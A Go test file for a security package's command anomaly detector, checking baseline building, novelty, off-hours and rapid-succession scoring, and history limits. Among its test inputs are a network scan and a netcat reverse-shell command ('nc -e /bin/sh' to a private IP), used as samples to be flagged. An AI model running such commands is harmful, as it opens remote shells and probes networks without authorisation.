package security

import (
	"fmt"
	"testing"
	"time"
)

func newTestAnomalyDetector(c *fakeClock) *AnomalyDetector {
	d := NewAnomalyDetector()
	d.now = c.now
	return d
}

// seedBaseline feeds commands spread over time and recomputes the baseline.
func seedBaseline(t *testing.T, d *AnomalyDetector, c *fakeClock, user string, commands []string) *UserBaseline {
	t.Helper()
	for _, cmd := range commands {
		d.Analyze(user, cmd)
		c.advance(5 * time.Minute)
	}
	b, ok := d.UpdateBaseline(user)
	if !ok {
		t.Fatalf("baseline not recomputed after %d commands", len(commands))
	}
	return b
}

func TestAnalyze_NoBaselineIsCalm(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	got := d.Analyze("u1", "ls -la")
	if got.IsAnomaly || got.Score != 0 || got.Recommendation != RecommendAllow {
		t.Errorf("first-ever command scored: %+v", got)
	}
}

func TestAnalyze_RapidSuccession(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	d.Analyze("u1", "ls")
	clock.advance(200 * time.Millisecond)
	got := d.Analyze("u1", "ls")
	if got.Score != 0.15 || len(got.Factors) != 1 || got.Factors[0] != FactorRapidSuccession {
		t.Errorf("rapid succession not scored: %+v", got)
	}
}

func TestAnalyze_NovelHeadAndOffHours(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	var cmds []string
	for i := 0; i < 12; i++ {
		cmds = append(cmds, "ls -la")
	}
	b := seedBaseline(t, d, clock, "u1", cmds)
	if _, ok := b.CommandFrequency["ls"]; !ok {
		t.Fatalf("baseline frequency map: %+v", b.CommandFrequency)
	}

	// Move outside the observed hour window, well clear of the last command.
	clock.advance(14 * time.Hour)
	got := d.Analyze("u1", "nmap -sS 10.0.0.0/8")

	want := map[string]bool{FactorNovelCommand: true, FactorOffHours: true}
	for _, f := range got.Factors {
		delete(want, f)
	}
	if len(want) != 0 {
		t.Errorf("missing factors %v in %+v", want, got)
	}
}

func TestAnalyze_ScoreThresholds(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	var cmds []string
	for i := 0; i < 12; i++ {
		cmds = append(cmds, "git status")
	}
	seedBaseline(t, d, clock, "u1", cmds)

	// Off-hours + novel head + rapid succession = 0.55 → flag.
	clock.advance(14 * time.Hour)
	d.Analyze("u1", "git status")
	clock.advance(100 * time.Millisecond)
	got := d.Analyze("u1", "nc -e /bin/sh 10.0.0.1 4444")
	if !got.IsAnomaly {
		t.Fatalf("score %v not flagged as anomaly: %+v", got.Score, got)
	}
	if got.Recommendation != RecommendFlag {
		t.Errorf("recommendation = %q, want %q (score %v)", got.Recommendation, RecommendFlag, got.Score)
	}
}

func TestUpdateBaseline_RequiresHistory(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	for i := 0; i < 9; i++ {
		d.Analyze("u1", "ls")
		clock.advance(time.Minute)
	}
	if _, ok := d.UpdateBaseline("u1"); ok {
		t.Error("baseline recomputed with fewer than 10 samples")
	}
	d.Analyze("u1", "ls")
	if _, ok := d.UpdateBaseline("u1"); !ok {
		t.Error("baseline not recomputed at 10 samples")
	}
}

func TestHistory_BoundedFIFO(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	for i := 0; i < 250; i++ {
		d.Analyze("u1", fmt.Sprintf("echo %d", i))
		clock.advance(time.Second)
	}
	d.mu.Lock()
	n := len(d.recent["u1"])
	first := d.recent["u1"][0].command
	d.mu.Unlock()
	if n != maxRecentCommands {
		t.Errorf("history length = %d, want %d", n, maxRecentCommands)
	}
	if first != "echo 150" {
		t.Errorf("oldest retained = %q, want echo 150", first)
	}
}

func TestBaseline_Contents(t *testing.T) {
	clock := newFakeClock()
	d := newTestAnomalyDetector(clock)

	cmds := []string{
		"ls", "ls -la", "git status", "git log", "cat README.md",
		"ls", "git status", "ls", "pwd", "ls",
	}
	b := seedBaseline(t, d, clock, "u1", cmds)

	if b.CommandFrequency["ls"] != 5 {
		t.Errorf("ls frequency = %d, want 5", b.CommandFrequency["ls"])
	}
	if b.CommandFrequency["git"] != 3 {
		t.Errorf("git frequency = %d, want 3", b.CommandFrequency["git"])
	}
	if b.TypicalHours.Start > b.TypicalHours.End {
		t.Errorf("typical hours inverted: %+v", b.TypicalHours)
	}
	if got := d.Baseline("u1"); got != b {
		t.Error("Baseline did not return the stored baseline")
	}
}
